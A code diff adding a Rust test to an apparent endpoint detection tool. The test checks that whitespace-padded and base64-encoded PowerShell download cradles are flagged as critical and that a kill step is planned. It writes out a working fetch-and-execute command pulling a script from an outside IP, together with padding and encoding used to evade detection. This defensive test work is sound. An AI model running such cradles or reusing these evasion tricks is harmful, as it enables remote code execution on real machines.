@@ -700,3 +700,78 @@ fn fixture_files_are_read_only_inside_the_content_directory_and_bounded() {
         "{text}"
     );
 }
+
+// Defect 3 end to end: a download cradle padded past 64 KB (and an encoded one padded inside
+// its base64) is detected by the shipped rules and the shipped playbook's kill step is decided.
+#[test]
+fn padded_powershell_cradles_are_detected_and_the_kill_decided_in_replay() {
+    use base64::Engine as _;
+    let dir = scratch_content();
+    // A debug build on a busy machine is slow; what is tested here is size, not speed.
+    std::fs::write(
+        dir.path().join("palisade.yaml"),
+        "limits:\n  time_budget_ms: 10000\n",
+    )
+    .expect("write");
+    let cradle = format!(
+        "powershell.exe -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://185.12.33.4/a.ps1')\"{}",
+        " ".repeat(70_000)
+    );
+    let payload = format!(
+        "{}IEX (New-Object Net.WebClient).DownloadString('http://185.12.33.4/a.ps1'){}",
+        " ".repeat(40_000),
+        " ".repeat(40_000)
+    );
+    let utf16: Vec<u8> = payload.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let encoded = format!(
+        "powershell.exe -NoP -W Hidden -Enc {}",
+        base64::engine::general_purpose::STANDARD.encode(utf16)
+    );
+    let events: String = [(7001, "padded-1", cradle), (7002, "padded-2", encoded)]
+        .into_iter()
+        .map(|(pid, id, cmdline)| {
+            serde_json::json!({
+                "type": "process_create", "timestamp": "2025-11-03T14:31:00Z", "id": id,
+                "host": "ws-17", "pid": pid, "name": "powershell.exe", "parent_name": "cmd.exe",
+                "cmdline": cmdline,
+            })
+            .to_string()
+                + "\n"
+        })
+        .collect();
+    assert!(events.lines().all(|l| l.len() < 1024 * 1024));
+    std::fs::write(dir.path().join("padded.jsonl"), events).expect("write");
+    let out = palisade(&["replay", "--events", "padded.jsonl"], dir.path());
+    assert_success(&out);
+    assert!(!stderr(&out).contains("rule skipped"), "{}", stderr(&out));
+    let lines = json_lines(&stdout(&out));
+    let critical: Vec<(&str, &str)> = lines
+        .iter()
+        .filter(|l| l["kind"] == "detection" && l["severity"] == "critical")
+        .map(|l| {
+            (
+                l["event_id"].as_str().unwrap_or_default(),
+                l["rule"].as_str().unwrap_or_default(),
+            )
+        })
+        .collect();
+    assert!(
+        critical.contains(&("padded-1", "powershell-download-cradle")),
+        "{critical:?}"
+    );
+    assert!(
+        critical.contains(&("padded-2", "encoded-powershell")),
+        "{critical:?}"
+    );
+    for (event, pid) in [("padded-1", "7001"), ("padded-2", "7002")] {
+        let kill = lines
+            .iter()
+            .find(|l| l["event_id"] == event && l["step"] == "kill-powershell")
+            .unwrap_or_else(|| panic!("no kill step for {event}: {lines:?}"));
+        assert_eq!(kill["target"], pid);
+        assert!(
+            ["planned", "queued"].contains(&kill["status"].as_str().unwrap_or_default()),
+            "{kill}"
+        );
+    }
+}
